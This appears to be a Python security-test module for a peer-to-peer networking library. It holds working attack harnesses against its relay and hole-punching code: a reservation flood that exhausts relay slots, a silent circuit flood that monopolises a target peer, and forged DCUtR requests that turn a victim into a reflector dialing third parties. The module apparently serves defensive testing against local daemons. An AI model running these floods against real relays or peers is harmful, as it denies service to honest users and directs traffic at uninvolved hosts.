"""Circuit relay v2 and DCUtR abuse (issue 16, "not tried yet"), each against real daemons.

- :func:`reservation_flood`: many identities from a few IPs of one /24 each reserve a slot on a
  relay and hang up. Unfixed, 16 IPs x 8 took all 128 slots for an hour (a reservation outlived
  its connection), and no honest NATed peer could reserve.
- :func:`circuit_flood`: identities open CONNECTs to one reserved peer through the relay, all at
  once, and send nothing on them. Unfixed, the circuits of the target (8 at most) were all the
  attacker's (concurrent CONNECTs even passed the cap), and honest peers could not reach it.
- :func:`dcutr_forged`: a peer on a relayed connection asks the victim to hole-punch, again and
  again, naming third parties' addresses (and answers the victim's own punch the same way).
  Unfixed, every request made the victim dial 8 addresses of the attacker's choice: a reflector.

Sources other than 127.0.0.1 (127.0.x.y) stand in for strangers: they are not exempt from limits.
"""

from __future__ import annotations

import time
from contextlib import asynccontextmanager
from typing import Any

import trio

from lattice.errors import LatticeError
from lattice.identity import KeyPair
from lattice.multiaddr import Multiaddr
from lattice.nat import circuit, dcutr
from lattice.transport import open_host


@asynccontextmanager
async def peer_at(target: str, local_ip: str, keypair: KeyPair | None = None):
    """A host of ours connected to ``target`` (multiaddr) from ``local_ip``: (host, connection)."""
    ma = Multiaddr.parse(target)
    async with open_host(keypair or KeyPair.generate()) as host:
        circuit.install_dialer(host)
        ip, port = ma.tcp_target()
        with trio.fail_after(10):
            sock = await trio.open_tcp_stream(ip, port, local_address=local_ip)
            conn = await host.adopt(sock, True, ma.without_peer(), expected=ma.peer_id)
        yield host, conn


async def reservation_flood(
    relay: str, sources: list[str], per_source: int = 8, hold: bool = False, on_held=None
) -> dict[str, Any]:
    """``per_source`` identities from each of ``sources`` reserve on ``relay``; they hang up at once,
    or with ``hold`` keep their connections (all at the same time) while ``on_held`` (an async
    function) runs. Counts the relay's answers."""
    out: dict[str, Any] = {"attack": "reservation_flood", "granted": 0, "refused": 0, "errors": 0}
    done = trio.Event()
    everyone = trio.Event()
    left = [len(sources) * per_source]

    async def one(ip: str, task_status: trio.TaskStatus = trio.TASK_STATUS_IGNORED) -> None:
        answered = False

        def count(kind: str, why: object = None) -> None:
            nonlocal answered
            out[kind] += 1
            if why is not None:
                out["last_error"] = str(why)[:200]
            answered = True
            left[0] -= 1
            if not left[0]:
                everyone.set()
            task_status.started()

        try:
            async with peer_at(relay, ip) as (host, conn):
                try:
                    await circuit.reserve(host, conn)
                    count("granted")
                except LatticeError as exc:
                    count("refused" if "refused" in str(exc) else "errors", exc)
                if hold:
                    await done.wait()
        except* (LatticeError, trio.TooSlowError, OSError) as group:
            if not answered:
                count("errors", group.exceptions[0])

    started = time.monotonic()
    async with trio.open_nursery() as nursery:
        for ip in sources:
            for _ in range(per_source):
                if hold:  # one after another (a burst of handshakes from one IP is refused)
                    await nursery.start(one, ip)
                else:
                    await one(ip)
        if hold:
            with trio.move_on_after(30):
                await everyone.wait()
        if on_held is not None:
            out["while_held"] = await on_held()
        done.set()
    out["seconds"] = round(time.monotonic() - started, 2)
    return out


async def circuit_flood(
    relay: str,
    target: str,
    sources: list[str],
    identities: int = 1,
    circuits: int = 8,
    hold: float = 5.0,
    on_held=None,
) -> dict[str, Any]:
    """``identities`` identities per source IP each send ``circuits`` CONNECTs to peer ``target``
    through ``relay`` at once and keep the circuits silent for ``hold`` seconds; ``on_held`` (an
    async function) runs while they are held. Counts the relay's answers."""
    from lattice.identity import PeerId

    out: dict[str, Any] = {"attack": "circuit_flood", "opened": 0, "refused": 0, "errors": 0}
    dst = PeerId.from_string(target)
    opened = trio.Event()
    pending = [len(sources) * identities]

    async def one_identity(ip: str) -> None:
        try:
            await hold_circuits(ip)
        except* (LatticeError, trio.TooSlowError, OSError):
            out["errors"] += 1
        finally:
            pending[0] -= 1
            if not pending[0]:
                opened.set()

    async def hold_circuits(ip: str) -> None:
        if True:
            async with peer_at(relay, ip) as (host, conn), trio.open_nursery() as nursery:

                async def connect() -> None:
                    try:
                        with trio.fail_after(10):
                            stream = await host.new_stream(conn, [circuit.HOP])
                            msg = circuit.CircuitMessage(circuit.CONNECT, peer=dst)
                            await circuit.write_message(stream, msg, hop=True)
                            reply = await circuit.read_message(stream, hop=True)
                    except (LatticeError, trio.TooSlowError):
                        out["errors"] += 1
                        return
                    out["opened" if reply.status == circuit.OK else "refused"] += 1
                    await trio.sleep(hold)  # silent: not even the Noise handshake
                    await stream.reset()

                for _ in range(circuits):
                    nursery.start_soon(connect)

    started = time.monotonic()
    async with trio.open_nursery() as nursery:
        for ip in sources:
            for _ in range(identities):
                nursery.start_soon(one_identity, ip)
        if on_held is not None:
            await trio.sleep(1.0)  # the CONNECTs are answered in milliseconds
            out["while_held"] = await on_held()
    out["seconds"] = round(time.monotonic() - started, 2)
    return out


async def dcutr_forged(
    relayed: str, forged: list[str], requests: int = 20, local_ip: str = "127.0.1.1"
) -> dict[str, Any]:
    """Reach the victim at ``relayed`` (its /p2p-circuit address) and send ``requests`` hole-punch
    requests at once, each naming ``forged`` as our addresses; answer the victim's own punches the
    same way. The third parties behind ``forged`` count what reached them."""
    out: dict[str, Any] = {"attack": "dcutr_forged", "sent": 0, "refused": 0, "answered_theirs": 0}
    addrs = [Multiaddr.parse(a) for a in forged]
    relay_addr, _victim = circuit.split_relayed(Multiaddr.parse(relayed))

    async with peer_at(str(relay_addr), local_ip) as (host, _relay_conn):

        async def answer(stream) -> None:  # the victim's own punch (it is B on our inbound circuit)
            with trio.fail_after(10):
                await dcutr.read(stream, dcutr.CONNECT)
                await stream.write(dcutr.encode(dcutr.CONNECT, addrs))
                await dcutr.read(stream, dcutr.SYNC)
            out["answered_theirs"] += 1

        host.set_stream_handler(dcutr.PROTOCOL_ID, answer)
        with trio.fail_after(10):
            conn = await circuit.dial(host, Multiaddr.parse(relayed))

        async def request() -> None:
            try:
                with trio.fail_after(10):
                    stream = await host.new_stream(conn, [dcutr.PROTOCOL_ID])
                    await stream.write(dcutr.encode(dcutr.CONNECT, addrs))
                    await dcutr.read(stream, dcutr.CONNECT)
                    await stream.write(dcutr.encode(dcutr.SYNC))
                out["sent"] += 1
            except (LatticeError, trio.TooSlowError):
                out["refused"] += 1

        started = time.monotonic()
        async with trio.open_nursery() as nursery:
            for _ in range(requests):
                nursery.start_soon(request)
        await trio.sleep(4.0)  # the victim's dials (3 s timeout) land meanwhile
        out["seconds"] = round(time.monotonic() - started, 2)
    return out
